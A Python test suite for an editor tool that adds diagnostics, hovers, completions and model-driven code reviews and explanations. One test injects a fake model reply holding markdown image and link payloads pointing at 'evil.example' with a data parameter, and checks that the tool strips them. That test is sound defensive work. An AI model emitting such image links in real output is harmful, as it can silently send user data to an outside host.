"""What a person reads: diagnostics, lenses, hovers, completion items, reviews, explanations, the last route."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

from tests.unit.features.conftest import CONFIG, Script

from pointsman.app import App
from pointsman.core.document import Snapshot
from pointsman.core.types import Position, Range, Severity, Source

Document = Callable[..., Snapshot]
DEEP = """from fastapi import APIRouter

router = APIRouter()


@router.get("/price")
def price(order, rates=[]):
    total = 0
    for line in order.lines:
        if line.active:
            for rate in rates:
                if rate.applies(line) and (rate.open or rate.forced):
                    if rate.kind == "a":
                        total += 1
                    elif rate.kind == "b":
                        total += 2
                    else:
                        total += 3
    return total
"""


def silent(_text: str, _percent: int | None) -> None:
    """No progress is shown."""


async def test_diagnostics_name_rule_and_limit(offline: App, document: Document) -> None:
    found = {f.code: f for f in await offline.workbench.diagnostics(document(DEEP))}
    assert "python/mutable-default" in found
    assert "`price`" in found["complexity/cognitive"].message
    assert found["complexity/cognitive"].range.start.line == 6


async def test_a_rule_and_the_limit_can_be_set(offline: App, document: Document) -> None:
    await offline.workbench.configure({"complexity": {"limit": 100}, "rules": {"disabled": ["python/mutable-default"]}})
    codes = {f.code for f in await offline.workbench.diagnostics(document(DEEP))}
    assert codes.isdisjoint({"complexity/cognitive", "python/mutable-default"})


async def test_lens_and_hover_tell_complexity_and_domain(offline: App, document: Document) -> None:
    lenses = await offline.workbench.lenses(document(DEEP))
    assert lenses[0].title.startswith("backend")
    assert "complexity" in lenses[1].title
    assert "limit 15" in lenses[1].title
    hover = await offline.workbench.hover(document(DEEP), Position(6, 5))
    assert hover is not None
    assert "cognitive complexity" in hover.markdown
    assert "backend" in hover.markdown
    assert await offline.workbench.hover(document(DEEP), Position(7, 5)) is None


async def test_completion_offers_names_nearest_first_and_the_rest_of_the_line_only_without_ghost_text(
    offline: App, document: Document
) -> None:
    text = "order_total = 1\norder_count = 2\norder_"
    offline.session.inline_in_editor = True
    items = (await offline.workbench.completion(document(text), Position(2, 6))).items
    assert [i.label for i in items][:2] == ["order_count", "order_total"]
    repeated = "row = session.execute(find, key)\nuse(row)\n" * 3 + "row = session."
    offline.session.inline_in_editor = False
    items = (await offline.workbench.completion(document(repeated), Position(6, 14))).items
    assert items[0].text == "execute(find, key)"
    assert "workspace" in items[0].detail


async def test_a_review_names_agent_and_model_and_moves_with_its_line(
    scripted: tuple[App, Script], document: Document
) -> None:
    app, script = scripted
    script.default = json.dumps([{"line": 8, "severity": "error", "message": "starts from the wrong total"}])
    told: list[str] = []
    review = await app.workbench.review(document(DEEP), None, lambda text, _: told.append(text))
    [finding] = review.findings
    assert finding.agent == "backend"
    assert finding.model in ("backend_specialist", "claude_4_sonnet")
    assert finding.severity is Severity.ERROR
    assert any("asks" in text for text in told)
    below = await app.workbench.diagnostics(document("# one line more\n" + DEEP, version=2))
    assert [f.range.start.line for f in below if f.agent] == [8]
    gone = await app.workbench.diagnostics(document(DEEP.replace("total = 0", "total = 1"), version=3))
    assert [f for f in gone if f.agent] == []
    app.workbench.clear_findings(None)
    assert [f for f in await app.workbench.diagnostics(document(DEEP)) if f.agent] == []


async def test_a_review_of_a_selection_stays_inside_it(scripted: tuple[App, Script], document: Document) -> None:
    app, script = scripted
    rows = [{"line": 2, "message": "outside"}, {"line": 10, "end_line": 99, "message": "inside"}]
    script.default = json.dumps(rows)
    review = await app.workbench.review(document(DEEP), Range(Position(8, 0), Position(11, 4)), silent)
    assert [(f.range.start.line, f.range.end.line) for f in review.findings] == [(9, 9)]


async def test_a_review_without_a_model_is_by_rules_and_says_so(offline: App, document: Document) -> None:
    review = await offline.workbench.review(document(DEEP), None, silent)
    assert review.degraded
    assert review.findings
    assert {f.model for f in review.findings} == {"rules"}
    assert "without a model" in review.message


async def test_an_explanation_without_a_model_is_read_off_the_tree(offline: App, document: Document) -> None:
    explanation = await offline.workbench.explain(document(DEEP), Range(Position(6, 4), Position(6, 9)), silent)
    assert explanation.degraded
    assert "`price`" in explanation.markdown
    assert "without a model" in explanation.markdown


async def test_an_explanation_cannot_carry_an_image_or_a_link(scripted: tuple[App, Script], document: Document) -> None:
    app, script = scripted
    script.default = "The price function ![x](https://evil.example/?d=1) adds up <img src=x> and [more](https://evil.example)."
    explanation = await app.workbench.explain(document(DEEP), Range(Position(6, 4), Position(6, 9)), silent)
    assert "price" in explanation.markdown
    assert "![" not in explanation.markdown
    assert "](http" not in explanation.markdown
    assert "<img" not in explanation.markdown


async def test_the_last_route_tells_model_reasons_ladder_and_price(scripted: tuple[App, Script], document: Document) -> None:
    app, script = scripted
    assert "No request yet" in app.workbench.last_route()
    script.default = "[]"
    await app.workbench.review(document(DEEP), None, silent)
    route = app.workbench.last_route()
    for part in ("review_file", "Why:", "Ladder:", "$", "ms"):
        assert part in route
    status = app.workbench.status()
    assert status.last is not None
    assert status.last.source is Source.MODEL
    assert status.session_micro_dollars > 0


async def test_a_document_beyond_the_limit_is_left_alone_with_one_notice(offline: App, document: Document) -> None:
    notices: list[str] = []
    offline.workbench.listen(lambda _: None, lambda notice: notices.append(notice.text), lambda _: None)
    huge = "x = [1, 2, 3]\n" * 400_000
    for version in (1, 2):
        assert await offline.workbench.diagnostics(document(huge, version=version)) == ()
        assert (await offline.workbench.review(document(huge, version=version), None, silent)).findings == ()
    assert await offline.workbench.lenses(document(huge, version=3)) == ()
    assert len([n for n in notices if "not analysed" in n]) == 1


async def test_an_empty_selection_explains_the_function_around_it(scripted: tuple[App, Script], document: Document) -> None:
    app, script = scripted
    script.default = "The price function adds up what the lines cost."
    here = Position(7, 4)
    await app.workbench.explain(document(DEEP), Range(here, here), silent)
    asked = script.prompts[0][1].messages[0].text
    assert "MARKED CODE BEGINS\n@router" in asked or "MARKED CODE BEGINS\ndef price" in asked


async def test_a_dear_review_is_announced_once_with_cheaper_models(
    bare: Path, scripted: tuple[App, Script], document: Document
) -> None:
    app, script = scripted
    (bare / "config.toml").write_text(CONFIG.replace("input = 2.0, output = 10.0", "input = 80.0, output = 400.0"))
    await app.workbench.configure({})
    await app.workbench.configure({"model": "claude_4_sonnet"})
    script.default = "[]"
    notices: list[str] = []
    app.workbench.listen(lambda _: None, lambda notice: notices.append(notice.text), lambda _: None)
    for version in (1, 2):
        await app.workbench.review(document(DEEP + f"\n# {version}\n", version=version), None, silent)
    dear = [text for text in notices if text.startswith("A dear request")]
    assert len(dear) == 1
    assert "claude_4_sonnet" in dear[0]
    assert "gpt_4_turbo" in dear[0]
